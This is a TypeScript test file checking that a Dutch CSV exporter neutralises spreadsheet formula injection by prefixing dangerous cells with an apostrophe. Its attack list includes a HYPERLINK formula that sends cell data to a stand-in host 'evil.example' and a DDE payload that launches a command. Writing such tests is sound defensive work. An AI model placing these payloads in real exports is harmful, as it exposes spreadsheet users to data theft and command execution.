import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { dutchCsv, dutchEuros } from './dutch-csv.ts';

const cellsOf = (csv: string): string[][] => parse(csv.replace(/^\uFEFF/, ''), { delimiter: ';', from_line: 2, relax_column_count: true });

describe('dutch CSV: no cell runs as a spreadsheet formula (OWASP CSV injection)', () => {
  it('turns the cells an attacker types into text with a leading apostrophe', () => {
    const attacks = [
      '=HYPERLINK("https://evil.example/?d="&A1;"Klik")',
      '+31 6 12345678',
      "-2+3+cmd|' /C calc'!A0",
      '@SUM(1+1)',
      '\t=1+1',
      '\r=1+1',
    ];
    const [cells] = cellsOf(
      dutchCsv(
        attacks.map((_, index) => `c${index}`),
        [attacks],
      ),
    );
    assert.deepEqual(
      cells,
      attacks.map((attack) => `'${attack}`),
    );
  });

  it('keeps ordinary text and our own negative amounts as they are', () => {
    const [cells] = cellsOf(dutchCsv(['naam', 'bedrag', 'getal'], [['Jan Bakker', dutchEuros(-5), '-12']]));
    assert.deepEqual(cells, ['Jan Bakker', '-0,05', '-12']);
  });

  it('holds for any text: a cell starts with a formula sign only when it is a plain number', () => {
    fc.assert(
      fc.property(
        fc.array(fc.string({ unit: fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', 'a', '1', ',', '"', ';', ' ') }), {
          minLength: 1,
          maxLength: 5,
        }),
        (texts) => {
          const [cells] = cellsOf(
            dutchCsv(
              texts.map((_, index) => `c${index}`),
              [texts],
            ),
          );
          for (const [index, cell] of cells!.entries()) {
            assert.ok(!/^[=+\-@\t\r\n]/.test(cell) || /^-?\d+(?:[.,]\d+)?$/.test(cell), `cell ${JSON.stringify(cell)}`);
            assert.ok(
              cell === texts[index] || cell === `'${texts[index]}`,
              `cell ${JSON.stringify(cell)} from ${JSON.stringify(texts[index])}`,
            );
          }
        },
      ),
    );
  });
});
